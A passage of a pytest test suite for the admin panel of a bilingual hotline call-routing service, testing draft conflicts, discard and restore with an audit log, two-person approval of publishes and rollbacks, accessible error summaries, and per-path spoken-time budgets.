    # Bob opens the page again: both changes can now live together.
    bob.edit("/admin/prompts", {"prompt:es:greeting": "Línea Ruta. Le escuchamos."})
    draft = json.loads(redis_client.get(store.CONFIG_DRAFT))["doc"]["prompts"]["es"]
    assert draft == {"goodbye": "Gracias por llamar. Que esté bien. Hasta luego.",
                     "greeting": "Línea Ruta. Le escuchamos."}


def test_a_publish_made_on_a_page_older_than_the_draft_publishes_nothing(app, ana,
                                                                          redis_client):
    ana.edit("/admin/prompts", {"prompt:es:goodbye": "Adiós."})
    seen = ana.revision()
    Staff(app, "bob").edit("/admin/prompts", {"prompt:es:goodbye": "Hasta pronto."})
    resp = ana.client.post("/admin/publish", data={"csrf_token": ana.token, "draft": seen,
                                                   "note": "short goodbye"})
    assert resp.status_code == 409
    assert live_version(redis_client) == 0
    row = parse(resp.text).one("section", cls="theirs").all("tr")[1]
    assert (row.one("del").text(), row.one("ins").text()) == ("Adiós.", "Hasta pronto.")


def test_discard_asks_first_is_recorded_with_who_and_the_draft_can_be_brought_back(
        app, ana, redis_client):
    edited = "Línea Ruta. Un borrador de Ana."
    ana.edit("/admin/prompts", {"prompt:es:greeting": edited})
    bob = Staff(app, "bob")
    asked = bob.post("/admin/discard")
    assert asked.request.path == "/admin/discard"  # a question, nothing done yet
    assert redis_client.get(store.CONFIG_DRAFT)
    question = parse(asked.text)
    assert "The draft by ana" in question.text()
    assert [w.text() for w in question.one("table", cls="diff").all("ins")] == [
        "Un borrador de Ana."]
    resp = bob.discard()
    assert redis_client.get(store.CONFIG_DRAFT) is None
    assert flashes(resp.text) == [
        "Draft discarded. It is kept in the history, where it can be brought back."]
    who = [(e["who"], e["action"]) for _, e in redis_client.xrange(store.AUDIT)]
    assert who[-1] == ("bob", "draft discarded")

    # The history keeps it; Ana brings it back.
    history = parse(ana.page("/admin/history"))
    kept = history.one("section", cls="set-aside").one("details", cls="kept-draft")
    assert "Draft by ana, set aside by bob" in kept.one("summary").text()
    assert "(draft discarded)" in kept.one("summary").text()
    restore = kept.one("form", cls="restore")
    resp = ana.post("/admin/restore", {"revision": restore.one(
        "input", name="revision").attrs["value"]})
    assert flashes(resp.text) == ["The draft is back. It is not live until you publish it."]
    assert json.loads(redis_client.get(store.CONFIG_DRAFT))["doc"] == {
        "prompts": {"es": {"greeting": edited}}}
    assert who_did(redis_client)[-1] == ("ana", "draft restored")


def who_did(redis_client) -> list[tuple[str, str]]:
    return [(e["who"], e["action"]) for _, e in redis_client.xrange(store.AUDIT)]


def test_a_rollback_asks_before_replacing_a_draft_which_stays_recoverable(
        app_config, redis_client):
    """With the two-person rule a rollback waits in the draft: with Ana's draft there,
    Bob is asked first (in his language); once he agrees, Ana's draft is set aside in the
    history, where it can be brought back."""
    strict = create_app({**app_config, "RUTA_TWO_PERSON_RULE": 1})
    ana, bob = Staff(strict, "ana"), Staff(strict, "bob", lang="es")
    ana.edit("/admin/prompts", {"prompt:es:greeting": "Línea Ruta. Versión uno."})
    ana.publish("v1")
    bob.post("/admin/approve")
    assert live_version(redis_client) == 1
    anas = "Línea Ruta. El trabajo de Ana, sin publicar."
    ana.edit("/admin/prompts", {"prompt:es:greeting": anas})

    asked = bob.post("/admin/rollback", {"version": "0", "note": "volver a los archivos"})
    assert json.loads(redis_client.get(store.CONFIG_DRAFT))["doc"]["prompts"]["es"][
        "greeting"] == anas  # nothing replaced yet
    question = parse(asked.text)
    assert question.one("h1").text() == "¿Reemplazar el borrador por la versión 0?"
    assert "reemplazaría el borrador de ana" in question.text()
    form = question.one("form", cls="confirm-rollback")
    bob.post("/admin/rollback", {el.attrs["name"]: el.attrs.get("value", "")
                                 for el in form.all("input")})
    draft = json.loads(redis_client.get(store.CONFIG_DRAFT))
    assert (draft["pending_by"], draft["pending_rollback_of"], draft["doc"]) == ("bob", 0, {})

    kept = parse(ana.page("/admin/history")).one("section", cls="set-aside")
    summary = kept.one("details", cls="kept-draft").one("summary").text()
    assert "Draft by ana, set aside by bob" in summary and "(rollback requested)" in summary
    assert anas in kept.text()


def test_the_prompts_page_reads_like_the_call(app, ana):
    """Sections in the order a caller meets them, each prompt with when it is heard and,
    beside the prompts that may use them, the placeholders."""
    page = parse(ana.page("/admin/prompts"))
    sections = [s.one("h2").text() for s in page.all("section", cls="prompt-group")]
    assert sections == [
        "The start of the call", "Question: What the call is about",
        "Question: Where to report a crime",
        "At any question, when the caller is not understood", "The transfer",
        "When a line or Ruta fails", "Numbers to write down", "Goodbye",
        "To a screening line, not heard by callers"]
    order = [f.attrs["id"].removeprefix("prompt-") for f in page.all("fieldset", cls="prompt")]
    assert order[:4] == ["greeting", "language_offer", "main_menu", "report_menu"]
    assert order.index("transfer") < order.index("numbers_intro") < order.index("goodbye")
    assert order.index("goodbye") < order.index("screen_whisper")
    assert len(order) == len(set(order)) == len({k for t in SHIPPED.prompts.values() for k in t})

    transfer = page.one("fieldset", id="prompt-transfer")
    assert transfer.one("p", cls="when").text() == "Just before a caller is connected to a line."
    assert transfer.one("p", cls="placeholders").text() == "May use: {hotline} (a line's name)"
    goodbye = page.one("fieldset", id="prompt-goodbye")
    assert goodbye.all("p", cls="placeholders") == []


def test_after_a_save_with_problems_a_summary_at_the_top_links_to_each_field(app, redis_client):
    for lang, saved, item in (
            ("en", SAVED_WITH_PROBLEMS["en"],
             "Before a transfer (English): {linea} cannot be filled in here; this prompt may "
             "use {hotline}"),
            ("es", SAVED_WITH_PROBLEMS["es"],
             "Antes de comunicar con una línea (English): aquí no se puede poner {linea}; este "
             "mensaje puede usar {hotline}")):
        redis_client.delete(store.CONFIG_DRAFT)
        person = Staff(app, f"admin-{lang}", lang=lang)
        resp = person.edit("/admin/prompts", {
            "prompt:en:transfer": "Connecting you to {linea}. Please hold."})
        assert flashes(resp.text, "error") == [saved]
        main = parse(resp.text).one("main")
        summary = main.one("section", cls="problems-summary")
        # First after the flash, announced, and where the keyboard starts.
        before = [el for el in main.children if not isinstance(el, str)]
        before = before[:before.index(summary)]
        assert [(el.tag, el.attrs.get("class")) for el in before] == [
            ("p", "flash error"), ("h1", None), ("nav", "subnav"), ("p", "muted status-line")]
        assert summary.attrs["role"] == "alert"
        assert summary.attrs["tabindex"] == "-1" and "autofocus" in summary.attrs
        link = summary.one("a")
        assert link.text() == item
        assert link.attrs["href"] == "#prompt:en:transfer"
        assert main.one("textarea", id="prompt:en:transfer").attrs["aria-invalid"] == "true"
    # On another page, a problem links to the page of its field.
    hotlines = parse(person.page("/admin/hotlines"))
    link = hotlines.one("section", cls="problems-summary").one("a")
    assert link.attrs["href"] == "/admin/prompts#prompt:en:transfer"


def test_the_spoken_seconds_of_each_path_are_shown_after_a_save_and_as_the_admin_types(
        app, ana):
    def budget(html: str) -> dict[str, str]:
        table = parse(html).one("table", cls="budget-paths")
        return {tr.attrs["data-path"]: tr.one("td", cls="seconds").text().strip()
                for tr in table.all("tr") if "data-path" in tr.attrs}

    shipped_paths = {p.label: p for p in spoken_paths(current_menu_of(app))}
    before = budget(ana.page("/admin/prompts"))
    assert set(before) == set(shipped_paths)
    labour = "es 2 -> labour (number read)"
    assert before[labour] == f"{shipped_paths[labour].seconds:.1f}"

    resp = ana.edit("/admin/prompts", {"prompt:es:transfer": LONG_TRANSFER})
    after = budget(resp.text)
    assert after["es 5 -> national"].endswith("over the budget")
    assert float(after["es 5 -> national"].split()[0]) > 30
    assert not after["en 9 5 -> national"].endswith("over the budget")

    # As the admin types (the page's script asks this with the form, unsaved).
    values = form_values(ana.page("/admin/prompts"))
    typed = ana.post("/admin/prompts/budget", {**values, "prompt:es:transfer": "Un momento."})
    paths = {p["path"]: p for p in typed.json["paths"]}
    assert paths["es 5 -> national"]["over"] is False
    assert float(paths["es 5 -> national"]["seconds"]) < shipped_paths["es 5 -> national"].seconds
    saved = json.loads(services.of(app).store.r.get(store.CONFIG_DRAFT))
    assert saved["doc"]["prompts"]["es"]["transfer"] == LONG_TRANSFER  # nothing saved


def test_try_the_call_plays_an_over_budget_draft_with_a_warning_and_publishing_refuses_it(
        app, ana, redis_client):
    ana.edit("/admin/prompts", {"prompt:es:transfer": LONG_TRANSFER})
    page = parse(ana.page("/admin/try"))
    warning = page.one("div", cls="over-budget")
    assert "it takes too long to reach a line" in warning.text()
    assert all(PATH_OVER_BUDGET.fullmatch(li.text()) for li in warning.all("li"))
    shown = try_page(ana.post("/admin/try", {"moves": "[]", "press": "5"}).text)
    assert shown["seconds"] > 30
    assert any("Por favor siga en la línea." in text for _, text in shown["lines"])
    assert flashes(ana.publish("too long").text, "error")
    assert live_version(redis_client) == 0


def test_a_publish_waiting_for_approval_is_marked_in_every_other_admins_navigation(
        app_config, redis_client):
    strict = create_app({**app_config, "RUTA_TWO_PERSON_RULE": 1})
    ana, bob = Staff(strict, "ana"), Staff(strict, "bob", lang="es")
    supervisor = Staff(strict, "sam", role="supervisor")

    def marked(person) -> list[str]:
        return [el.text() for el in parse(person.page("/reports")).all(
            "span", cls="awaiting-approval")]

    assert marked(ana) == marked(bob) == []
    ana.edit("/admin/prompts", {"prompt:es:goodbye": "Adiós."})
    ana.publish("short goodbye")
    assert marked(bob) == ["espera su aprobación"]
    assert marked(ana) == [] and marked(supervisor) == []  # hers; not an admin
    bob.post("/admin/approve")
    assert marked(bob) == []
